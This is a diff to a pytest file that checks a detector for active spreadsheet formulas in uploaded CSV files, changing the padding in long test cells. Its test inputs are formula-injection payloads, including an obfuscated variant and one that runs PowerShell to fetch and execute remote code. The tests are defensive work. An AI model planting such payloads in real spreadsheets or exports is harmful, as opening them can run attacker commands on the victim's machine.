@@ -11,7 +11,7 @@ CSV, ICS, VCF = "text/csv", "text/calendar", "text/vcard"
 @pytest.mark.parametrize(
     "cell",
     [
-        "=" + "1+" * 10_000 + "cmd|'/c calc'!A1",
+        "=" + "1*" * 10_000 + "cmd|'/c calc'!A1",
         "=         C    m D       |        '/        c       c  al  c      .  e      x       e  '   !   A",
         "=cmd|'/c powershell IEX(wget x)'!_xlbgnm.A1",
         "\"=\ncmd|'/c calc'!A1\"",
@@ -31,7 +31,7 @@ def test_a_cell_that_acts_is_found_in_any_spelling(cell: str) -> None:
 
 
 def test_a_long_cell_across_two_pieces_is_found() -> None:
-    body = b"a,b\n" * 258_000 + b"anna,=" + b"1+" * 10_000 + b"cmd|'/c calc'!A1\n"
+    body = b"a,b\n" * 258_000 + b"anna,=" + b"1*" * 10_000 + b"cmd|'/c calc'!A1\n"
     assert len(body) > 1024 * 1024 > body.index(b"=")
     assert codes(text, body, CSV) == ["active_formula"]
 
